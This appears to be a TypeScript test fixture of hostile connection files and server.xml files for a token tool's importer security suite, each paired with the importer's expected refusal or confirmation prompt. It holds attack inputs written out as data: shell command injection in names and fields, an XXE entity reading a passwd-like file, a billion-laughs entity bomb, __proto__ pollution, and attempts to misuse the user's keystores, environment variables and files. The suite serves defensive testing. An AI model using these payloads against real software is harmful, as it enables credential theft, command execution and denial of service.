/**
 * Crafted connection files and server.xml files for the hostile-input suite, written as an
 * attacker would send them to a Tokensmith user: each points at the attacker's token endpoint
 * and tries to use something of the user's (keystore, truststore, generated key, proxy alias,
 * environment variable, file), to run a command through an export, or to break the importer
 * (control characters, `__proto__`, huge numbers, deep nesting, megabyte strings, duplicates,
 * hostile sealed secrets, XML entities).
 */
import { createCipheriv, randomBytes, scryptSync } from 'node:crypto';
import { basename, dirname, relative } from 'node:path';

/** What a file can be built from: the attacker's endpoint, the user's names, bait paths. */
export interface Scene {
  /** The attacker's recording token endpoint. */
  evil: string;
  /** The token endpoint the user's own connections use. */
  legit: string;
  /** A shell command that leaves a marker file if it ever runs. */
  touch: string;
  /** Files outside the data folder: a passwd-like file, a FIFO, a copy of the user's keystore. */
  bait: { passwd: string; fifo: string; keystore: string };
  /** The data folder of the face the file is imported into. */
  home: string;
  /** The file the user's signing keystore was stored as (inside the data folder). */
  userKeystoreFile: string;
}

/** The user's things (the same in both faces' data folders). */
export const USER = {
  keystore: 'user-signing',
  truststore: 'user-ca',
  proxy: 'user-proxy',
  builder: 'user-builder',
  connection: 'user-conn',
  connectionId: 'user-conn-id',
  /** The environment variable planted in both faces' environments. */
  plantedVariable: 'PLANTED_SECRET',
} as const;

export const PASSPHRASE = 'correct horse battery staple';

export interface HostileFile {
  name: string;
  format: 'json' | 'xml';
  content: (s: Scene) => string;
  /** Imported with --replace / replace: true. */
  replace?: boolean;
  /** Imported with this passphrase. */
  passphrase?: string;
  /** Without any confirmation: refused as invalid, refused until bindings are confirmed, or imported. */
  outcome:
    | { refused: RegExp }
    | { confirm: (s: Scene) => string[] }
    | { imports: string[]; notes?: RegExp };
  /** The connection names the file declares (tried with token / assertion either way). */
  names: string[];
}

const cc = (s: Scene, name: string, extra: Record<string, unknown> = {}) => ({
  id: `id-${name}`,
  name,
  type: 'client_credentials',
  tokenEndpoint: s.evil,
  client: { id: 'attacker-client', secret: 'attackers-own-secret' },
  ...extra,
});

const doc = (body: Record<string, unknown>) =>
  JSON.stringify({ format: 'tokensmith.connections', version: 1, connections: [], ...body });

/** Secrets sealed with the attacker's passphrase, saying what the attacker wants. */
function sealed(values: Record<string, string>, body: Record<string, unknown>, N = 1024): string {
  const salt = randomBytes(16);
  const key = scryptSync(PASSPHRASE, salt, 32, { N: Math.min(N, 1024), r: 8, p: 1 });
  const iv = randomBytes(12);
  const cipher = createCipheriv('aes-256-gcm', key, iv);
  const data = Buffer.concat([cipher.update(JSON.stringify(values)), cipher.final()]);
  const secrets = {
    kdf: 'scrypt',
    N,
    r: N > 1024 ? 32 : 8,
    p: 1,
    salt: salt.toString('base64'),
    iv: iv.toString('base64'),
    tag: cipher.getAuthTag().toString('base64'),
    data: data.toString('base64'),
  };
  return doc({ ...body, secrets });
}

/** A z/OS Connect server.xml: client credentials at the attacker's endpoint, plus `extra`. */
function serverXml(
  s: Scene,
  o: {
    name?: string;
    password?: string;
    builder?: string;
    grant?: string;
    ssl?: string;
    doctype?: string;
    user?: string;
  } = {},
): string {
  const jwt = o.builder !== undefined;
  return `<?xml version="1.0" encoding="UTF-8"?>${o.doctype ?? ''}
<server>
  <zosconnect_authData id="client" user="${o.user ?? 'attacker-client'}" password="${o.password ?? 'attackers-own-secret'}"/>
  <zosconnect_authorizationServer id="as" tokenEndpoint="${s.evil}" basicAuthRef="client"${o.ssl ? ` sslCertsRef="${o.ssl}"` : ''}/>
  ${jwt ? `<zosconnect_oAuthTokenConfig id="tc" tokenSubject="attacker-client" tokenGeneratorRef="builder"><claims><![CDATA[{"scope":"admin"}]]></claims></zosconnect_oAuthTokenConfig>\n  ${o.builder}` : ''}
  <zosconnect_oAuthConfig id="oauth" grantType="${o.grant ?? 'client_credentials'}" authServerRef="as"${jwt ? ' jwtAuthenticationTokenRef="tc"' : ''}/>
  <zosconnect_endpointConnection id="${o.name ?? 'xml-conn'}" host="https://api.attacker.test" port="443" authenticationConfigRef="oauth"/>
</server>
`;
}

/** `<home>/keystores/../../<bait folder>/fifo`: starts inside the keystores folder. */
const throughKeystores = (s: Scene) =>
  `${s.home}/keystores/../../${basename(dirname(s.bait.fifo))}/${basename(s.bait.fifo)}`;

const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const MB = 1024 * 1024;

export const HOSTILE_FILES: HostileFile[] = [
  // --- signing oracles (issue 12, item 2) ---
  {
    name: 'JWT bearer assertion for root, signed with the user’s keystore, sent to the attacker',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'oracle-bearer', {
            type: 'jwt_bearer',
            jwt: {
              signing: { keystore: USER.keystore, alias: 'signing' },
              claims: {
                subject: 'root',
                audience: s.legit,
                scopeClaim: 'admin',
                expirationMinutes: 1440,
              },
            },
          }),
        ],
      }),
    outcome: { confirm: () => [`keystore:${USER.keystore}`] },
    names: ['oracle-bearer'],
  },
  {
    name: 'private_key_jwt client assertion with the user’s key and a one-year exp in custom claims',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'oracle-client-assertion', {
            client: { id: 'admin', authMethod: 'private_key_jwt' },
            jwt: {
              signing: { keystore: USER.keystore },
              claims: { customClaims: `{"exp": ${Math.floor(Date.now() / 1000) + 31_536_000}}` },
            },
          }),
        ],
      }),
    outcome: { confirm: () => [`keystore:${USER.keystore}`] },
    names: ['oracle-client-assertion'],
  },
  {
    name: 'the user’s generated JWT builder key (jwkEnabled, same builder ID)',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'oracle-builder', {
            client: { id: 'zos', authMethod: 'private_key_jwt' },
            jwt: { signing: { jwkEnabled: true, builderId: USER.builder } },
          }),
        ],
      }),
    outcome: { confirm: () => [`builder:${USER.builder}`] },
    names: ['oracle-builder'],
  },
  {
    name: 'the user’s keystore as the mutual-TLS client certificate',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'mtls-with-user-key', {
            ssl: { enabled: true, keystoreAlias: USER.keystore, keyAlias: 'signing' },
          }),
        ],
      }),
    outcome: { confirm: () => [`keystore:${USER.keystore}`] },
    names: ['mtls-with-user-key'],
  },
  {
    name: 'the user’s truststore',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'with-user-truststore', {
            ssl: { enabled: true, truststoreAlias: USER.truststore },
          }),
        ],
      }),
    outcome: { confirm: () => [`truststore:${USER.truststore}`] },
    names: ['with-user-truststore'],
  },
  {
    name: 'the user’s proxy alias and its credentials',
    format: 'json',
    content: (s) => doc({ connections: [cc(s, 'via-user-proxy', { proxyAlias: USER.proxy })] }),
    outcome: { confirm: () => [`proxy:${USER.proxy}`] },
    names: ['via-user-proxy'],
  },
  // --- environment exfiltration (item 3) ---
  {
    name: '${env:…} of a planted variable as the client secret',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'env-client-secret', {
            client: { id: 'x', secret: `\${env:${USER.plantedVariable}}` },
          }),
        ],
      }),
    outcome: { confirm: () => [`env:${USER.plantedVariable}`] },
    names: ['env-client-secret'],
  },
  {
    name: '${env:…} in the password, the client secret and the authentication-server password',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'env-everywhere', {
            type: 'password',
            username: 'victim',
            password: `\${env:${USER.plantedVariable}}`,
            client: { id: 'x', secret: '${env:HOME}' },
            authToken: {
              enabled: true,
              tokenEndpoint: s.evil,
              header: 'X-JWT',
              username: 'victim',
              password: '${env:PATH}',
            },
          }),
        ],
      }),
    outcome: { confirm: () => ['env:HOME', `env:${USER.plantedVariable}`, 'env:PATH'] },
    names: ['env-everywhere'],
  },
  {
    name: '${file:…} and ${keychain:…} as the client secret and the password',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'file-and-keychain', {
            type: 'password',
            username: 'victim',
            password: '${keychain:tokensmith-user-password}',
            client: { id: 'x', secret: `\${file:${s.bait.passwd}}` },
          }),
        ],
      }),
    outcome: {
      confirm: (s) => [`path:${s.bait.passwd}`, 'keychain:tokensmith-user-password'],
    },
    names: ['file-and-keychain'],
  },
  // --- files outside the data folder (item 5) ---
  {
    name: 'a keystore of the file: a copy of the user’s keystore outside the data folder, its password from the environment',
    format: 'json',
    content: (s) =>
      doc({
        keystores: [
          {
            name: 'stolen',
            kind: 'pkcs12',
            path: s.bait.keystore,
            password: `\${env:${USER.plantedVariable}}`,
          },
        ],
        connections: [cc(s, 'env-keystore', { jwt: { signing: { keystore: 'stolen' } } })],
      }),
    outcome: {
      confirm: (s) => [`path:${s.bait.keystore}`, `env:${USER.plantedVariable}`],
    },
    names: ['env-keystore'],
  },
  {
    name: 'keystore path at a passwd-like file',
    format: 'json',
    content: (s) =>
      doc({
        keystores: [{ name: 'passwd', kind: 'pem', path: s.bait.passwd }],
        connections: [cc(s, 'passwd-keystore', { jwt: { signing: { keystore: 'passwd' } } })],
      }),
    outcome: { confirm: (s) => [`path:${s.bait.passwd}`] },
    names: ['passwd-keystore'],
  },
  {
    name: 'keystore path at a FIFO, certificate chain at the passwd-like file',
    format: 'json',
    content: (s) =>
      doc({
        keystores: [
          { name: 'fifo', kind: 'pem', path: s.bait.fifo, certificatePath: s.bait.passwd },
        ],
        connections: [cc(s, 'fifo-keystore', { ssl: { enabled: true, keystoreAlias: 'fifo' } })],
      }),
    outcome: { confirm: (s) => [`path:${s.bait.fifo}`, `path:${s.bait.passwd}`] },
    names: ['fifo-keystore'],
  },
  {
    name: 'keystore paths with .. out of the data folder (relative and through keystores/)',
    format: 'json',
    content: (s) =>
      doc({
        keystores: [
          { name: 'up', kind: 'pem', path: relative(s.home, s.bait.passwd) },
          { name: 'through', kind: 'pem', path: throughKeystores(s) },
        ],
        connections: [],
      }),
    outcome: {
      confirm: (s) => [`path:${relative(s.home, s.bait.passwd)}`, `path:${throughKeystores(s)}`],
    },
    names: [],
  },
  {
    name: 'keystore path at the user’s own keystore file inside the data folder',
    format: 'json',
    content: (s) =>
      doc({
        keystores: [
          { name: 'mirror', kind: 'pkcs12', path: s.userKeystoreFile, password: 'guess' },
        ],
        connections: [cc(s, 'mirror-keystore', { jwt: { signing: { keystore: 'mirror' } } })],
      }),
    outcome: { confirm: (s) => [`path:${s.userKeystoreFile}`] },
    names: ['mirror-keystore'],
  },
  {
    name: 'replace: the user’s truststore swapped for the attacker’s CA',
    format: 'json',
    replace: true,
    content: (s) =>
      doc({
        keystores: [
          { name: USER.truststore, purpose: 'truststore', kind: 'pem', path: s.bait.passwd },
        ],
      }),
    outcome: { confirm: (s) => [`path:${s.bait.passwd}`, `truststore:${USER.truststore}`] },
    names: [],
  },
  {
    name: 'replace: the user’s proxy alias pointed at the attacker',
    format: 'json',
    replace: true,
    content: (s) =>
      doc({ proxies: [{ name: USER.proxy, host: new URL(s.evil).hostname, port: 1 }] }),
    outcome: { confirm: () => [`proxy:${USER.proxy}`] },
    names: [],
  },
  // --- control characters and shell metacharacters (item 1) ---
  {
    name: 'a connection name with a newline and a command',
    format: 'json',
    content: (s) => doc({ connections: [cc(s, `innocent\n${s.touch}`)] }),
    outcome: { refused: /\/connections\/0\/name: A name must be a single line/ },
    names: [],
  },
  {
    name: 'an ID with an escape sequence and a bell',
    format: 'json',
    content: (s) => doc({ connections: [cc(s, 'escape-id', { id: 'a\u001b[2J\u0007b' })] }),
    outcome: { refused: /\/connections\/0\/id: An ID must be a single line/ },
    names: ['escape-id'],
  },
  {
    name: 'a client ID and a scope with line breaks',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'newline-client', {
            client: { id: `x"\n${s.touch}\n"`, secret: 's' },
            params: { scope: `a\r${s.touch}` },
          }),
        ],
      }),
    outcome: { refused: /\/connections\/0\/client\/id: Client ID must be a single line/ },
    names: ['newline-client'],
  },
  {
    name: 'a keystore and a proxy named with control characters',
    format: 'json',
    content: () =>
      doc({
        keystores: [{ name: 'k\u0000eys', kind: 'pem', path: 'k.pem' }],
        proxies: [{ name: 'p\nx', host: 'h', port: 1 }],
      }),
    outcome: { refused: /\/keystores\/0\/name: A name must be a single line/ },
    names: [],
  },
  {
    name: 'shell metacharacters everywhere a single line allows them',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, `$(${s.touch}) \`${s.touch}\` '; ${s.touch}; '`, {
            client: { id: `'"$(${s.touch})"'`, secret: `"; ${s.touch}; "` },
            params: {
              scope: `\`${s.touch}\``,
              audience: `$(${s.touch})`,
              tokenParams: [{ name: `a$(${s.touch})`, value: `|${s.touch}&` }],
            },
            tokenEndpoint: `${s.evil}?q=$(${s.touch})&r=\`${s.touch}\``,
          }),
        ],
      }),
    outcome: { imports: ['*'] },
    names: [],
  },
  {
    name: '__proto__ as name, ID, JSON keys, parameter name and custom claim',
    format: 'json',
    content: (s) =>
      // Written by hand: an object literal would set the prototype instead of a key.
      `{"format":"tokensmith.connections","version":1,"__proto__":{"polluted":"yes"},"connections":[{"__proto__":{"polluted":"yes"},"id":"__proto__","name":"__proto__","type":"client_credentials","tokenEndpoint":"${s.evil}","client":{"id":"x","secret":"s","__proto__":{"polluted":"yes"}},"params":{"tokenParams":[{"name":"__proto__","value":"polluted"}]},"jwt":{"claims":{"customClaims":"{\\"__proto__\\":{\\"polluted\\":\\"yes\\"}}"}}}],"keystores":[],"proxies":[]}`,
    outcome: { imports: ['__proto__'] },
    names: ['__proto__'],
  },
  {
    name: 'huge numbers: Infinity and 1e308 in ports, lifetimes and timeouts',
    format: 'json',
    content: (s) =>
      JSON.stringify({
        format: 'tokensmith.connections',
        version: 1,
        connections: [cc(s, 'huge-numbers', { timeouts: { connectSeconds: 1e308 } })],
      }).replace('"huge-numbers"', '"huge-numbers","jwt":{"claims":{"expirationMinutes":1e400}}'),
    outcome: { refused: /\/connections\/0\/jwt\/claims\/expirationMinutes/ },
    names: ['huge-numbers'],
  },
  {
    name: 'deep nesting: 100,000 nested arrays',
    format: 'json',
    content: (s) =>
      JSON.stringify({
        format: 'tokensmith.connections',
        version: 1,
        connections: [cc(s, 'deep')],
      }).replace('"deep"', `"deep","description":${nested(100_000)}`),
    outcome: { refused: /\/connections\/0\/description/ },
    names: ['deep'],
  },
  {
    name: '1 MB strings: description, custom claims, the file’s own secret',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'megabytes', {
            description: 'd'.repeat(MB),
            client: { id: 'x', secret: 's'.repeat(MB) },
            jwt: { claims: { customClaims: JSON.stringify({ big: 'c'.repeat(MB) }) } },
          }),
        ],
      }),
    outcome: { imports: ['megabytes'] },
    names: ['megabytes'],
  },
  {
    name: 'a 1 MB name',
    format: 'json',
    content: (s) => doc({ connections: [cc(s, 'n'.repeat(MB))] }),
    outcome: { refused: /\/connections\/0\/name: A name is at most 200 characters/ },
    names: [],
  },
  {
    name: 'duplicate IDs, one of them the ID of the user’s connection',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'dup-one', { id: 'same-id' }),
          cc(s, 'dup-two', { id: 'same-id' }),
          cc(s, 'dup-user-id', { id: USER.connectionId }),
        ],
      }),
    outcome: { imports: ['dup-one', 'dup-two', 'dup-user-id'] },
    names: ['dup-one', 'dup-two', 'dup-user-id'],
  },
  {
    name: 'duplicate names',
    format: 'json',
    content: (s) => doc({ connections: [cc(s, 'twice'), cc(s, 'twice', { id: 'other' })] }),
    outcome: { refused: /\/connections\/1\/name: "twice" appears twice in the file/ },
    names: ['twice'],
  },
  {
    name: 'the file’s own secret with a custom-claims exp a year away (client_secret_jwt)',
    format: 'json',
    content: (s) =>
      doc({
        connections: [
          cc(s, 'year-long-hmac', {
            client: { id: 'x', secret: 'attackers-own-secret', authMethod: 'client_secret_jwt' },
            jwt: {
              claims: { customClaims: `{"exp": ${Math.floor(Date.now() / 1000) + 31_536_000}}` },
            },
          }),
        ],
      }),
    outcome: { imports: ['year-long-hmac'] },
    names: ['year-long-hmac'],
  },
  // --- hostile sealed secrets ---
  {
    name: 'sealed secrets aimed at __proto__',
    format: 'json',
    passphrase: PASSPHRASE,
    content: (s) =>
      sealed({ '/__proto__/polluted': 'yes' }, { connections: [cc(s, 'sealed-proto')] }),
    outcome: {
      refused: /\/__proto__\/polluted: An encrypted secret belongs to a field that is not a secret/,
    },
    names: ['sealed-proto'],
  },
  {
    name: 'sealed secrets aimed at the name, with a newline (past the schema)',
    format: 'json',
    passphrase: PASSPHRASE,
    content: (s) =>
      sealed({ '/connections/0/name': `x\n${s.touch}` }, { connections: [cc(s, 'sealed-name')] }),
    outcome: {
      refused:
        /\/connections\/0\/name: An encrypted secret belongs to a field that is not a secret/,
    },
    names: ['sealed-name'],
  },
  {
    name: 'sealed secrets asking for scrypt N=2^20, r=32',
    format: 'json',
    passphrase: PASSPHRASE,
    content: (s) => sealed({}, { connections: [cc(s, 'sealed-costly')] }, 2 ** 20),
    outcome: { refused: /asks for scrypt parameters N=1048576, r=32, p=1/ },
    names: ['sealed-costly'],
  },
  // --- server.xml ---
  {
    name: 'server.xml: jwtBuilder keyStoreRef naming the user’s keystore',
    format: 'xml',
    content: (s) =>
      serverXml(s, {
        name: 'xml-keystore',
        builder: `<jwtBuilder id="builder" keyStoreRef="${USER.keystore}" keyAlias="signing" audiences="${s.legit}"/>`,
      }),
    outcome: { confirm: () => [`keystore:${USER.keystore}`] },
    names: ['xml-keystore'],
  },
  {
    name: 'server.xml: a password grant whose authData password is ${env.PLANTED}',
    format: 'xml',
    content: (s) =>
      serverXml(s, {
        name: 'xml-env',
        grant: 'password',
        password: `\${env.${USER.plantedVariable}}`,
      }),
    outcome: { confirm: () => [`env:${USER.plantedVariable}`] },
    names: ['xml-env'],
  },
  {
    name: 'server.xml: jwkEnabled jwtBuilder with the user’s builder ID',
    format: 'xml',
    content: (s) =>
      serverXml(s, {
        name: 'xml-builder',
        builder: `<jwtBuilder id="builder" jwkEnabled="true"/>`,
      }).replace(/"builder"/g, `"${USER.builder}"`),
    outcome: { confirm: () => [`builder:${USER.builder}`] },
    names: ['xml-builder'],
  },
  {
    name: 'server.xml: sslCertsRef naming the user’s truststore',
    format: 'xml',
    content: (s) => serverXml(s, { name: 'xml-ssl', ssl: USER.truststore }),
    outcome: { confirm: () => [`truststore:${USER.truststore}`] },
    names: ['xml-ssl'],
  },
  {
    name: 'server.xml: a new jwkEnabled builder asking for a one-year expiry',
    format: 'xml',
    content: (s) =>
      serverXml(s, {
        name: 'xml-year',
        builder: `<jwtBuilder id="builder" jwkEnabled="true" expiresInSeconds="31536000"/>`,
      }).replace(/"builder"/g, '"attacker-builder"'),
    outcome: {
      imports: ['xml-year'],
      notes:
        /the expiry \(365 days\) is longer than the 24 hours Tokensmith signs an assertion for; 1440 minutes/,
    },
    names: ['xml-year'],
  },
  {
    name: 'server.xml: external entity reading the passwd-like file (XXE)',
    format: 'xml',
    content: (s) =>
      serverXml(s, {
        name: 'xml-xxe',
        doctype: `\n<!DOCTYPE server [<!ENTITY xxe SYSTEM "file://${s.bait.passwd}">]>`,
        user: '&xxe;',
      }),
    outcome: { refused: /External entities are not supported/ },
    names: ['xml-xxe'],
  },
  {
    name: 'server.xml: billion laughs',
    format: 'xml',
    content: (s) => {
      const entities = ['<!ENTITY a0 "lollollollollol">'];
      for (let i = 1; i < 10; i++) entities.push(`<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`);
      return serverXml(s, {
        name: 'xml-laughs',
        doctype: `\n<!DOCTYPE server [${entities.join('')}]>`,
        user: '&a9;',
      });
    },
    outcome: { imports: ['xml-laughs'] },
    names: ['xml-laughs'],
  },
  {
    name: 'server.xml: shell metacharacters in IDs, hosts and claims',
    format: 'xml',
    content: (s) =>
      serverXml(s, {
        name: `xml $(${s.touch}) \`${s.touch}\``,
        user: `'$(${s.touch})'`,
        password: `;${s.touch};`,
      }),
    outcome: { imports: ['*'] },
    names: [],
  },
  {
    name: 'server.xml: an endpoint ID with a raw line break',
    format: 'xml',
    content: (s) => serverXml(s, { name: `xml-newline\n${s.touch}` }),
    outcome: { refused: /name: A name must be a single line/ },
    names: [],
  },
  {
    name: 'server.xml: 20,000 nested elements',
    format: 'xml',
    content: (s) =>
      serverXml(s, { name: 'xml-deep' }).replace(
        '</server>',
        `${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}</server>`,
      ),
    outcome: { refused: /the XML cannot be read \(Maximum nested tags exceeded\)/ },
    names: ['xml-deep'],
  },
  {
    name: 'server.xml: a 1 MB attribute and 1 MB of CDATA claims',
    format: 'xml',
    content: (s) =>
      serverXml(s, {
        name: 'xml-megabytes',
        user: 'u'.repeat(MB),
        builder: `<jwtBuilder id="builder" jwkEnabled="true" audiences="${'a'.repeat(MB)}"/>`,
      }).replace(/"builder"/g, '"mega-builder"'),
    outcome: { imports: ['xml-megabytes'] },
    names: ['xml-megabytes'],
  },
];
